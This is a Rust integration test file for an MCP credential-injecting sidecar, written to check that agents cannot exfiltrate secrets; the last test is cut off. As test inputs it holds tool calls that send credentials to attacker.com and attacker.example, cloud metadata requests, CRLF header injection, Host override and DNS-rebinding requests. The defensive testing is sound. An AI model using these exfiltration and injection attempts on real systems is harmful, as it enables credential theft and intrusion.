//! `/mcp` end to end: the real `airlock sidecar` against a real platform,
//! driven by the official MCP Python SDK (both protocol modes) and by raw
//! HTTP, with a local upstream reached through the internal-host opt-in.
//! Every attack is checked from the attacker's side: the call fails with the
//! right code and the upstream saw nothing.
#![allow(clippy::unwrap_used)] // a test may unwrap: a panic is its failure

use std::net::SocketAddr;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};

use crate::support::*;
use airlock_platform::testing::TestPlatform;
use airlock_store::AuthType;
use airlock_vault::ExposeSecret;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

/// The credential value: it must reach the upstream and nothing else.
const CANARY: &str = "canary-Zq8xW3vT9pLr2MnB";
const API: &str = "api.internal.test";
const OTHER: &str = "other.internal.test";
const EVIL: &str = "evil.internal.test";

#[derive(Debug, Clone)]
struct Seen {
    method: String,
    path: String,
    host: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Seen {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }
}

/// A loopback HTTP/1.1 server that records every request and answers by path.
struct Upstream {
    addr: SocketAddr,
    seen: Arc<Mutex<Vec<Seen>>>,
}

impl Upstream {
    async fn start() -> Upstream {
        let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = l.local_addr().unwrap();
        let seen: Arc<Mutex<Vec<Seen>>> = Arc::default();
        let rec = seen.clone();
        tokio::spawn(async move {
            while let Ok((mut s, _)) = l.accept().await {
                let rec = rec.clone();
                tokio::spawn(async move {
                    let mut buf = Vec::new();
                    let mut tmp = [0u8; 8192];
                    let head_end = loop {
                        if let Some(p) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
                            break p;
                        }
                        match s.read(&mut tmp).await {
                            Ok(0) | Err(_) => return,
                            Ok(n) => buf.extend_from_slice(&tmp[..n]),
                        }
                    };
                    let head = String::from_utf8_lossy(&buf[..head_end]).to_string();
                    let mut lines = head.split("\r\n");
                    let mut first = lines.next().unwrap_or("").split(' ');
                    let method = first.next().unwrap_or("").to_owned();
                    let path = first.next().unwrap_or("").to_owned();
                    let headers: Vec<(String, String)> = lines
                        .filter_map(|l| l.split_once(':'))
                        .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_owned()))
                        .collect();
                    let len: usize = headers
                        .iter()
                        .find(|(k, _)| k == "content-length")
                        .and_then(|(_, v)| v.parse().ok())
                        .unwrap_or(0);
                    let mut body = buf[head_end + 4..].to_vec();
                    while body.len() < len {
                        match s.read(&mut tmp).await {
                            Ok(0) | Err(_) => break,
                            Ok(n) => body.extend_from_slice(&tmp[..n]),
                        }
                    }
                    let host = headers
                        .iter()
                        .find(|(k, _)| k == "host")
                        .map(|(_, v)| v.clone())
                        .unwrap_or_default();
                    let seen = Seen {
                        method,
                        path: path.clone(),
                        host,
                        headers,
                        body,
                    };
                    rec.lock().unwrap().push(seen.clone());
                    let port = addr.port();
                    let auth = seen.header("authorization").unwrap_or("").to_owned();
                    let route = path.split('?').next().unwrap_or("").to_owned();
                    // A hostile upstream that reflects the request compressed,
                    // whatever it was asked for; a polite one only when asked.
                    let echo = json!({"auth": auth, "x-key": seen.header("x-key")}).to_string();
                    let wants_gzip = seen
                        .header("accept-encoding")
                        .is_some_and(|v| v.contains("gzip"));
                    if route == "/gzip-echo"
                        || route == "/te-gzip-echo"
                        || (route == "/polite-echo" && wants_gzip)
                    {
                        let gz = gzip(echo.as_bytes()).await;
                        let head = if route == "/te-gzip-echo" {
                            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ntransfer-encoding: gzip, chunked\r\nconnection: close\r\n\r\n".to_owned()
                        } else {
                            format!(
                                "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-encoding: gzip\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                                gz.len()
                            )
                        };
                        let _ = s.write_all(head.as_bytes()).await;
                        if route == "/te-gzip-echo" {
                            let _ = s.write_all(format!("{:x}\r\n", gz.len()).as_bytes()).await;
                            let _ = s.write_all(&gz).await;
                            let _ = s.write_all(b"\r\n0\r\n\r\n").await;
                        } else {
                            let _ = s.write_all(&gz).await;
                        }
                        let _ = s.shutdown().await;
                        return;
                    }
                    let (status, extra, body): (u16, Vec<(String, String)>, Vec<u8>) = match route.as_str() {
                        "/polite-echo" => (200, vec![("content-type".into(), "application/json".into())], echo.into_bytes()),
                        // Echoes the credential everywhere it can, to test redaction.
                        "/echo" => (
                            200,
                            vec![
                                ("content-type".into(), "application/json".into()),
                                ("etag".into(), format!("\"{auth}\"")),
                                ("x-ratelimit-remaining".into(), "41".into()),
                                ("set-cookie".into(), "session=abc; HttpOnly".into()),
                                ("www-authenticate".into(), "Bearer realm=x".into()),
                                ("x-internal-debug".into(), "secret-ish".into()),
                            ],
                            json!({"path": seen.path, "method": seen.method, "auth": auth, "body": String::from_utf8_lossy(&seen.body)})
                                .to_string()
                                .into_bytes(),
                        ),
                        "/to-other" => (302, vec![("location".into(), format!("http://{OTHER}:{port}/landing"))], vec![]),
                        "/to-evil" => (302, vec![("location".into(), format!("http://{EVIL}:{port}/landing"))], vec![]),
                        "/landing" => (200, vec![("content-type".into(), "text/plain".into())], format!("landed auth={auth}").into_bytes()),
                        "/big" => (200, vec![("content-type".into(), "text/plain".into())], "0123456789abcdef".repeat(4096).into_bytes()),
                        "/binary" => (200, vec![("content-type".into(), "application/octet-stream".into())], vec![0xff, 0xfe, 0x00, 0x01]),
                        _ => (404, vec![], b"not found".to_vec()),
                    };
                    let mut resp = format!(
                        "HTTP/1.1 {status} X\r\ncontent-length: {}\r\nconnection: close\r\n",
                        body.len()
                    );
                    for (k, v) in extra {
                        resp.push_str(&format!("{k}: {v}\r\n"));
                    }
                    resp.push_str("\r\n");
                    let _ = s.write_all(resp.as_bytes()).await;
                    let _ = s.write_all(&body).await;
                    let _ = s.shutdown().await;
                });
            }
        });
        Upstream { addr, seen }
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }

    fn url(&self, host: &str, path: &str) -> String {
        format!("http://{host}:{}{path}", self.addr.port())
    }
}

/// gzip of `data`, by the system's gzip (a real compressor: the bytes hold
/// nothing of the input a redactor could match).
async fn gzip(data: &[u8]) -> Vec<u8> {
    run_filter(&["-c", "-n"], data.to_vec()).await
}

async fn gunzip(data: &[u8]) -> Vec<u8> {
    run_filter(&["-d", "-c"], data.to_vec()).await
}

async fn run_filter(args: &[&str], input: Vec<u8>) -> Vec<u8> {
    let args: Vec<String> = args.iter().map(|a| a.to_string()).collect();
    tokio::task::spawn_blocking(move || {
        use std::io::Write;
        let mut child = Command::new("gzip")
            .args(&args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("gzip");
        child.stdin.take().unwrap().write_all(&input).unwrap();
        child.wait_with_output().unwrap().stdout
    })
    .await
    .unwrap()
}

/// Every string in `v`, and every way the agent could decode one (base64,
/// then gzip): none may hold `secret`.
async fn assert_nothing_decodes_to(v: &Value, secret: &str) {
    use base64::Engine as _;
    let mut strings = Vec::new();
    fn collect<'a>(v: &'a Value, out: &mut Vec<&'a str>) {
        match v {
            Value::String(s) => out.push(s),
            Value::Array(a) => a.iter().for_each(|x| collect(x, out)),
            Value::Object(o) => o.values().for_each(|x| collect(x, out)),
            _ => {}
        }
    }
    collect(v, &mut strings);
    for s in strings {
        assert!(!s.contains(secret), "the credential reached the agent: {s}");
        let Ok(raw) = base64::engine::general_purpose::STANDARD.decode(s.trim()) else {
            continue;
        };
        assert!(
            !raw.windows(secret.len()).any(|w| w == secret.as_bytes()),
            "the credential reached the agent in base64"
        );
        if raw.starts_with(&[0x1f, 0x8b]) {
            let plain = gunzip(&raw).await;
            assert!(
                !plain.windows(secret.len()).any(|w| w == secret.as_bytes()),
                "the credential reached the agent compressed: {}",
                String::from_utf8_lossy(&plain)
            );
        }
    }
}

struct Env {
    p: TestPlatform,
    up: Upstream,
    sc: SidecarProcess,
    token: String,
}

async fn setup(log: &str) -> Env {
    let p = TestPlatform::start("mcp-agent").await;
    p.add_connection(
        "svc",
        AuthType::Bearer,
        &[("api_key", CANARY), ("org", "acme")],
    )
    .await;
    p.add_connection("wild", AuthType::Bearer, &[("api_key", CANARY)])
        .await;
    let up = Upstream::start().await;
    let port = up.addr.port();
    let cfg = p
        .sidecar_config()
        .tcp()
        .unix(p.dir.path().join("sidecar.sock"))
        .integration(
            integration("svc")
                .authorized([
                    format!("http://{API}:{port}/**"),
                    format!("http://{OTHER}:{port}/**"),
                ])
                .bearer("api_key"),
        )
        .integration(
            integration("wild")
                .authorized(["http://*.com/**", "https://**"])
                .bearer("api_key"),
        )
        .integration(integration("open").allow_all_uris().without_connection())
        .loopback_host(API)
        .loopback_host(OTHER)
        .loopback_host(EVIL)
        .limits(|l| {
            l.inline_result_bytes = 4096;
            l.run_result_bytes = 150_000;
            l.max_request_bytes = 65536;
        })
        .build();
    let sc = spawn_sidecar_with_log(&cfg, log);
    let token = p.sidecar_token.expose_secret().to_owned();
    Env { p, up, sc, token }
}

/// Runs `mcp_client.py` with `ops`; returns its JSON output.
fn py(
    url: &str,
    token: Option<&str>,
    mode: &str,
    uds: Option<&std::path::Path>,
    ops: Value,
) -> Value {
    let input = json!({"url": url, "token": token, "mode": mode, "uds": uds, "ops": ops});
    mcp_client_output(spawn_mcp_client(&input))
}

fn error_code(result: &Value) -> Option<String> {
    assert_eq!(
        result["isError"],
        json!(true),
        "not an isError result: {result}"
    );
    serde_json::from_str::<Value>(&text_of(result)).ok()?["error"]
        .as_str()
        .map(str::to_owned)
}

const MODES: [&str; 2] = ["legacy", "2026-07-28"];

#[tokio::test(flavor = "multi_thread")]
async fn python_sdk_both_modes_inject_the_credential_and_never_return_it() {
    if !python_has(&["mcp", "httpx2"]) {
        return;
    }
    let env = setup("info").await;
    let url = format!("http://{}/mcp", env.sc.tcp());
    let port = env.up.addr.port();
    for mode in MODES {
        let before = env.up.seen().len();
        let out = py(
            &url,
            Some(&env.token),
            mode,
            None,
            json!([
                {"op": "list_tools"},
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/echo?org={{org}}"), "headers": {"X-Trace": "t1", "Authorization": "Bearer agent-forged"}}},
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/echo"), "method": "POST", "headers": {"X-Key": "{{api_key}}"}, "body": {"k": "{{api_key}}"}, "substituteBody": true}},
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/binary")}},
            ]),
        );
        assert!(out.get("fatal").is_none(), "{mode}: {out}");
        let expected_version = if mode == "legacy" {
            "2025-11-25"
        } else {
            "2026-07-28"
        };
        assert_eq!(out["protocol_version"], json!(expected_version), "{mode}");
        let tools: Vec<&str> = out["results"][0]["tools"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|t| t["name"].as_str())
            .collect();
        assert_eq!(
            tools,
            [
                "open__api_call",
                "svc__api_call",
                "wild__api_call",
                "run_history",
                "recall_memory"
            ],
            "{mode}"
        );

        // 1: the upstream got the injected credential (the agent's forged one replaced).
        let r = &out["results"][1];
        assert_eq!(r.get("isError"), Some(&json!(false)), "{mode}: {r}");
        let seen = env.up.seen();
        let got = &seen[before];
        assert_eq!(got.host, format!("{API}:{port}"));
        assert_eq!(got.path, "/echo?org=acme");
        assert_eq!(
            got.header("authorization"),
            Some(format!("Bearer {CANARY}").as_str()),
            "{mode}"
        );
        assert_eq!(
            got.headers
                .iter()
                .filter(|(k, _)| k == "authorization")
                .count(),
            1
        );
        assert_eq!(got.header("x-trace"), Some("t1"));
        assert!(
            got.header("x-airlock-sidecar-auth").is_none()
                && !got.headers.iter().any(|(_, v)| v.contains(&env.token))
        );
        // …and the agent got it back redacted, with status and safe headers in _meta.
        let body: Value = serde_json::from_str(&text_of(r)).unwrap();
        assert_eq!(body["auth"], json!("Bearer [REDACTED]"), "{mode}");
        let meta = &r["_meta"];
        assert_eq!(meta["status"], json!(200));
        assert_eq!(meta["headers"]["etag"], json!("\"Bearer [REDACTED]\""));
        assert_eq!(meta["headers"]["x-ratelimit-remaining"], json!("41"));
        for h in [
            "set-cookie",
            "www-authenticate",
            "x-internal-debug",
            "authorization",
        ] {
            assert!(
                meta["headers"].get(h).is_none(),
                "{mode}: {h} leaked: {meta}"
            );
        }
        // Every credential field is treated as secret, `org` included.
        assert_eq!(meta["url"], json!(env.up.url(API, "/echo?org=[REDACTED]")));

        // 2: header and body placeholders.
        let r = &out["results"][2];
        assert_eq!(r.get("isError"), Some(&json!(false)), "{mode}: {r}");
        let got = &env.up.seen()[before + 1];
        assert_eq!(got.method, "POST");
        assert_eq!(got.header("x-key"), Some(CANARY));
        assert_eq!(got.header("content-type"), Some("application/json"));
        assert_eq!(
            String::from_utf8_lossy(&got.body),
            format!("{{\"k\":\"{CANARY}\"}}")
        );
        assert!(text_of(r).contains("[REDACTED]"));

        // 3: binary bodies come back as base64 with a note.
        let r = &out["results"][3];
        assert_eq!(r["_meta"]["encoding"], json!("base64"), "{mode}: {r}");
        assert!(text_of(r).contains("//4AAQ=="), "{r}");

        let whole = out.to_string();
        assert!(
            !whole.contains(CANARY),
            "{mode}: the credential reached the agent: {whole}"
        );
        assert!(
            !whole.contains(&env.token),
            "{mode}: the sidecar token was echoed"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn python_sdk_over_the_unix_socket_and_without_token() {
    if !python_has(&["mcp", "httpx2"]) {
        return;
    }
    let env = setup("info").await;
    let ops = json!([{"op": "list_tools"}]);
    for mode in MODES {
        let out = py(
            "http://localhost/mcp",
            Some(&env.token),
            mode,
            Some(&env.sc.unix()),
            ops.clone(),
        );
        assert!(
            out.get("fatal").is_none(),
            "{mode} over the unix socket: {out}"
        );
        assert_eq!(out["results"][0]["tools"].as_array().map(Vec::len), Some(5));
        // Without the token (and with a wrong one) the SDK cannot even connect.
        for token in [None, Some("0".repeat(64))] {
            let out = py(
                &format!("http://{}/mcp", env.sc.tcp()),
                token.as_deref(),
                mode,
                None,
                ops.clone(),
            );
            // Legacy fails at the handshake; 2026-07-28 has none and fails on
            // the first request. (The SDK reports the 401 as a generic error
            // response; the raw status is asserted below.)
            let failed_first = out["results"][0].get("exception").is_some();
            assert!(
                out.get("fatal").is_some() || failed_first,
                "{mode}: served without the token: {out}"
            );
            assert!(
                !out.to_string().contains("api_call"),
                "{mode}: tools listed without the token: {out}"
            );
        }
    }
    // The raw answer is the sidecar's 401.
    let (status, _, body) = http(
        env.sc.tcp(),
        "POST",
        "/mcp",
        &[("content-type", "application/json")],
        b"{}",
    );
    assert_eq!(
        (status, serde_json::from_slice::<Value>(&body).unwrap()),
        (401, json!({"error": "unauthorized"}))
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn refusals_are_tool_errors_and_the_upstream_sees_nothing() {
    if !python_has(&["mcp", "httpx2"]) {
        return;
    }
    let env = setup("info").await;
    let url = format!("http://{}/mcp", env.sc.tcp());
    for mode in MODES {
        let before = env.up.seen().len();
        let out = py(
            &url,
            Some(&env.token),
            mode,
            None,
            json!([
                // A host the integration did not name (it resolves to the upstream).
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(EVIL, "/echo")}},
                // Cloud metadata: not authorized for svc, blocked for an allow-all integration.
                {"op": "call", "name": "svc__api_call", "args": {"target": "http://169.254.169.254/latest/meta-data/"}},
                {"op": "call", "name": "open__api_call", "args": {"target": "http://169.254.169.254/latest/meta-data/"}},
                {"op": "call", "name": "open__api_call", "args": {"target": "http://localhost:1/"}},
                // A caller-chosen host with a credential.
                {"op": "call", "name": "wild__api_call", "args": {"target": "http://attacker.com/collect"}},
                {"op": "call", "name": "wild__api_call", "args": {"target": "https://attacker.example/collect"}},
                // A redirect out of authorized_uris.
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/to-evil")}},
                // Bad arguments.
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/echo"), "method": "POST", "body": {"fromBytes": "%%%", "encoding": "base64"}}},
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/echo"), "headers": {"X-A": "v\r\nX-Injected: 1"}}},
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/echo"), "headers": {"Host": EVIL}}},
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/echo"), "body": "x"}},
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/{{password}}")}},
                {"op": "call", "name": "nope__api_call", "args": {"target": "http://x/"}},
            ]),
        );
        assert!(out.get("fatal").is_none(), "{mode}: {out}");
        let r = out["results"].as_array().unwrap();
        let codes: Vec<Option<String>> = r[..12].iter().map(error_code).collect();
        let want = [
            "not_authorized",
            "not_authorized",
            "blocked_address",
            "blocked_host",
            "credential_exfiltration_refused",
            "credential_exfiltration_refused",
            "redirect_blocked",
            "invalid_body",
            "forbidden_header",
            "forbidden_header",
            "invalid_body",
            "unknown_placeholder",
        ];
        assert_eq!(codes, want.map(|c| Some(c.to_owned())), "{mode}: {out}");
        let status =
            |i: usize| serde_json::from_str::<Value>(&text_of(&r[i])).unwrap()["status"].clone();
        assert_eq!(status(0), json!(403));
        assert_eq!(status(7), json!(400));
        // Unknown tool: a JSON-RPC error -32602.
        assert_eq!(r[12]["code"], json!(-32602), "{mode}: {}", r[12]);
        // The upstream saw only the redirecting request itself: never the
        // evil host, never a header-injected or host-overridden request.
        let seen = &env.up.seen()[before..];
        assert_eq!(seen.len(), 1, "{mode}: {seen:?}");
        assert_eq!(seen[0].path, "/to-evil");
        assert!(!out.to_string().contains(CANARY));
    }
    // Every outbound decision is in the run's egress log.
    let log = eventually(10, || async {
        let log = env.p.egress_log().await;
        (log.len() >= 14).then_some(log)
    })
    .await
    .expect("egress log entries");
    let dump = format!("{log:?}");
    let codes: Vec<&str> = log
        .iter()
        .filter_map(|e| e.reason.map(|c| c.as_str()))
        .collect();
    for code in [
        "not_authorized",
        "blocked_address",
        "blocked_host",
        "credential_exfiltration_refused",
        "redirect_blocked",
    ] {
        assert!(
            codes.contains(&code),
            "{code} missing from the egress log: {dump}"
        );
    }
    assert!(!dump.contains(CANARY));
}

/// An upstream that reflects the request, asked for gzip by the agent, must
/// not get the credential out compressed: the sidecar asks for `identity`
/// whatever the agent asked, and an answer encoded anyway is withheld (it
/// cannot be redacted). A polite upstream's plain answer still works.
#[tokio::test(flavor = "multi_thread")]
async fn an_encoded_answer_cannot_carry_the_credential_out() {
    if !python_has(&["mcp", "httpx2"]) {
        return;
    }
    let env = setup("info").await;
    let url = format!("http://{}/mcp", env.sc.tcp());
    for mode in MODES {
        let before = env.up.seen().len();
        let out = py(
            &url,
            Some(&env.token),
            mode,
            None,
            json!([
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/gzip-echo"), "headers": {"Accept-Encoding": "gzip"}}},
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/te-gzip-echo"), "headers": {"Accept-Encoding": "gzip, br", "X-Key": "{{api_key}}"}}},
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/polite-echo"), "headers": {"Accept-Encoding": "gzip"}}},
            ]),
        );
        assert!(out.get("fatal").is_none(), "{mode}: {out}");
        let r = out["results"].as_array().unwrap();
        assert_nothing_decodes_to(&out, CANARY).await;
        for hostile in &r[..2] {
            assert_eq!(
                error_code(hostile).as_deref(),
                Some("unredactable_response"),
                "{mode}: {hostile}"
            );
        }
        // The legitimate path: a plain answer, redacted.
        assert_eq!(r[2].get("isError"), Some(&json!(false)), "{mode}: {}", r[2]);
        let body: Value = serde_json::from_str(&text_of(&r[2])).unwrap();
        assert_eq!(body["auth"], json!("Bearer [REDACTED]"), "{mode}");
        // The credential did go upstream (the upstream is authorized), and
        // every request asked for an answer the sidecar can read.
        let seen = &env.up.seen()[before..];
        assert_eq!(seen.len(), 3, "{seen:?}");
        for s in seen {
            assert_eq!(
                s.header("authorization"),
                Some(format!("Bearer {CANARY}").as_str())
            );
            assert_eq!(s.header("accept-encoding"), Some("identity"), "{}", s.path);
        }
    }
    let log = eventually(10, || async {
        let log = env.p.egress_log().await;
        (log.iter()
            .filter(|e| outcome(e) == Some("withheld"))
            .count()
            == 4)
            .then_some(log)
    })
    .await
    .expect("the withheld answers in the egress log");
    assert!(
        log.iter()
            .filter(|e| outcome(e) == Some("withheld"))
            .all(|e| e.decision == airlock_store::EgressDecision::Allowed && e.status == Some(200)),
        "{log:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn cross_origin_redirect_strips_the_credential() {
    if !python_has(&["mcp", "httpx2"]) {
        return;
    }
    let env = setup("info").await;
    let url = format!("http://{}/mcp", env.sc.tcp());
    let out = py(
        &url,
        Some(&env.token),
        "2026-07-28",
        None,
        json!([{"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/to-other"), "headers": {"X-Key": "{{api_key}}", "X-Keep": "k"}}}]),
    );
    let r = &out["results"][0];
    assert_eq!(r.get("isError"), Some(&json!(false)), "{out}");
    assert_eq!(r["_meta"]["credentialStripped"], json!(true));
    assert_eq!(r["_meta"]["redirects"], json!(1));
    assert_eq!(text_of(r), "landed auth=");
    let seen = env.up.seen();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(
        seen[0].header("authorization"),
        Some(format!("Bearer {CANARY}").as_str())
    );
    assert_eq!(seen[1].host, format!("{OTHER}:{}", env.up.addr.port()));
    assert_eq!(
        seen[1].header("authorization"),
        None,
        "the credential crossed origins"
    );
    assert_eq!(
        seen[1].header("x-key"),
        None,
        "a substituted header crossed origins"
    );
    assert_eq!(seen[1].header("x-keep"), Some("k"));
}

#[tokio::test(flavor = "multi_thread")]
async fn large_results_become_links_readable_by_this_run_only() {
    if !python_has(&["mcp", "httpx2"]) {
        return;
    }
    let env = setup("info").await;
    let url = format!("http://{}/mcp", env.sc.tcp());
    let (other_run, _) = env.p.another_run("mcp-agent").await;
    for mode in MODES {
        let out = py(
            &url,
            Some(&env.token),
            mode,
            None,
            json!([{"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/big")}}]),
        );
        let r = &out["results"][0];
        assert_eq!(r.get("isError"), Some(&json!(false)), "{mode}: {out}");
        let link = r["content"]
            .as_array()
            .unwrap()
            .iter()
            .find(|b| b["type"] == "resource_link")
            .expect("a resource_link")
            .clone();
        let uri = link["uri"].as_str().unwrap().to_owned();
        assert!(
            uri.starts_with(&format!("airlock://result/{}/", env.p.run_id)),
            "{uri}"
        );
        assert_eq!(link["size"], json!(65536));
        let id = uri.rsplit('/').next().unwrap();
        let out = py(
            &url,
            Some(&env.token),
            mode,
            None,
            json!([
                {"op": "read", "uri": uri},
                {"op": "read", "uri": format!("airlock://result/{other_run}/{id}")},
                {"op": "read", "uri": format!("airlock://result/{}/no-such-id", env.p.run_id)},
            ]),
        );
        let contents = &out["results"][0]["contents"][0];
        assert_eq!(
            contents["text"].as_str().map(str::len),
            Some(65536),
            "{mode}: {}",
            out["results"][0]
        );
        assert_eq!(contents["mimeType"], json!("text/plain"));
        for i in [1, 2] {
            let e = &out["results"][i];
            assert!(
                e["code"] == json!(-32002) || e["code"] == json!(-32602),
                "{mode}: {e}"
            );
            assert!(
                e["message"].as_str().unwrap_or("").contains("not found"),
                "{mode}: {e}"
            );
        }
    }
    // The run's cap on stored results (150000 bytes; each is 65536).
    let out = py(
        &url,
        Some(&env.token),
        "legacy",
        None,
        json!([{"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/big")}}]),
    );
    assert_eq!(
        error_code(&out["results"][0]).as_deref(),
        Some("run_result_limit"),
        "{out}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn malformed_input_gets_clear_errors_and_the_sidecar_keeps_serving() {
    let env = setup("info").await;
    let auth = format!("Bearer {}", env.token);
    let h = [
        ("authorization", auth.as_str()),
        ("content-type", "application/json"),
        ("accept", "application/json, text/event-stream"),
    ];
    let post = |body: &[u8]| http(env.sc.tcp(), "POST", "/mcp", &h, body);
    for (body, code) in [
        (&b"{not json"[..], -32700),
        (b"[]", -32600),
        (
            b"[{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\"}]",
            -32600,
        ),
        (
            b"{\"jsonrpc\":\"2.0\",\"id\":{},\"method\":\"tools/list\"}",
            -32600,
        ),
        (b"{\"id\":1,\"method\":\"tools/list\"}", -32600),
        (
            b"{\"jsonrpc\":\"2.0\",\"id\":5,\"method\":\"tools/call\",\"params\":[1]}",
            -32602,
        ),
        // Right shape, but rmcp's typed parse refuses it (rmcp alone would
        // answer a plain-text 415).
        (b"{\"jsonrpc\":\"2.0\",\"id\":6,\"error\":5}", -32600),
    ] {
        let (status, _, resp) = post(body);
        assert_eq!(status, 400, "{}", String::from_utf8_lossy(body));
        let v: Value = serde_json::from_slice(&resp)
            .unwrap_or_else(|_| panic!("not JSON: {}", String::from_utf8_lossy(&resp)));
        assert_eq!(v["jsonrpc"], json!("2.0"));
        assert_eq!(
            v["error"]["code"],
            json!(code),
            "{}: {v}",
            String::from_utf8_lossy(body)
        );
    }
    // An oversized envelope: 413 naming the limit, declared or chunked.
    let big = format!(
        "{{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\",\"params\":{{\"pad\":\"{}\"}}}}",
        "x".repeat(70_000)
    );
    let (status, _, resp) = post(big.as_bytes());
    assert_eq!(status, 413);
    assert!(
        String::from_utf8_lossy(&resp).contains("65536"),
        "{}",
        String::from_utf8_lossy(&resp)
    );
    let mut s = std::net::TcpStream::connect(env.sc.tcp()).unwrap();
    use std::io::{Read, Write};
    let head = format!(
        "POST /mcp HTTP/1.1\r\nhost: 127.0.0.1\r\nauthorization: {auth}\r\ncontent-type: application/json\r\naccept: application/json, text/event-stream\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n"
    );
    s.write_all(head.as_bytes()).unwrap();
    for chunk in big.as_bytes().chunks(8192) {
        if s.write_all(format!("{:x}\r\n", chunk.len()).as_bytes())
            .is_err()
            || s.write_all(chunk).is_err()
            || s.write_all(b"\r\n").is_err()
        {
            break;
        }
    }
    let _ = s.write_all(b"0\r\n\r\n");
    let mut raw = Vec::new();
    let _ = s.read_to_end(&mut raw);
    let (status, _, resp) = parse_response(&raw);
    assert_eq!(status, 413);
    assert!(String::from_utf8_lossy(&resp).contains("65536"));
    // A stateless (2026-07-28) call of an unknown tool, by hand: -32602.
    let meta = json!({"io.modelcontextprotocol/protocolVersion": "2026-07-28", "io.modelcontextprotocol/clientCapabilities": {}});
    let call = json!({"jsonrpc": "2.0", "id": 9, "method": "tools/call", "params": {"name": "no_such_tool", "arguments": {}, "_meta": meta}});
    let h2 = [
        h[0],
        h[1],
        h[2],
        ("mcp-protocol-version", "2026-07-28"),
        ("mcp-method", "tools/call"),
        ("mcp-name", "no_such_tool"),
    ];
    let (status, _, resp) = http(
        env.sc.tcp(),
        "POST",
        "/mcp",
        &h2,
        call.to_string().as_bytes(),
    );
    let v: Value = serde_json::from_slice(&resp)
        .unwrap_or_else(|_| panic!("{status}: {}", String::from_utf8_lossy(&resp)));
    assert_eq!(v["error"]["code"], json!(-32602), "{v}");
    // A foreign Host (DNS rebinding) is refused even with the token.
    let (status, _, _) = {
        let mut s = std::net::TcpStream::connect(env.sc.tcp()).unwrap();
        let body = call.to_string();
        let req = format!(
            "POST /mcp HTTP/1.1\r\nhost: attacker.example\r\nauthorization: {auth}\r\ncontent-type: application/json\r\naccept: application/json, text/event-stream\r\nmcp-protocol-version: 2026-07-28\r\nmcp-method: tools/call\r\nmcp-name: no_such_tool\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{body}",
            body.len()
        );
        s.write_all(req.as_bytes()).unwrap();
        let mut raw = Vec::new();
        let _ = s.read_to_end(&mut raw);
        parse_response(&raw)
    };
    assert_eq!(status, 403);
    let (status, _, _) = http(env.sc.tcp(), "GET", "/health", &[], b"");
    assert_eq!(status, 200, "the sidecar stopped serving");
    assert!(env.up.seen().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn canary_never_reaches_the_agent_or_the_log() {
    if !python_has(&["mcp", "httpx2"]) {
        return;
    }
    let mut env = setup("trace").await;
    let url = format!("http://{}/mcp", env.sc.tcp());
    let mut outputs = String::new();
    for mode in MODES {
        let out = py(
            &url,
            Some(&env.token),
            mode,
            None,
            json!([
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/echo"), "headers": {"X-Key": "{{api_key}}"}}},
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/to-other")}},
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/to-evil")}},
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/big")}},
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/{{nope}}")}},
                {"op": "call", "name": "wild__api_call", "args": {"target": "http://attacker.com/"}},
                {"op": "call", "name": "run_history", "args": {"limit": 5, "fields": ["result"]}},
                {"op": "call", "name": "recall_memory", "args": {"q": "anything"}},
                // The credential substituted into a refused target (path and
                // host), into an allowed one, and into one that cannot be dialled.
                {"op": "call", "name": "svc__api_call", "args": {"target": "http://127.0.0.1:1/{{api_key}}"}},
                {"op": "call", "name": "svc__api_call", "args": {"target": format!("http://{{{{api_key}}}}.{EVIL}:{}/x", env.up.addr.port())}},
                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/{{api_key}}/x?k={{api_key}}")}},
                {"op": "call", "name": "wild__api_call", "args": {"target": "https://api.example.com/{{api_key}}"}},
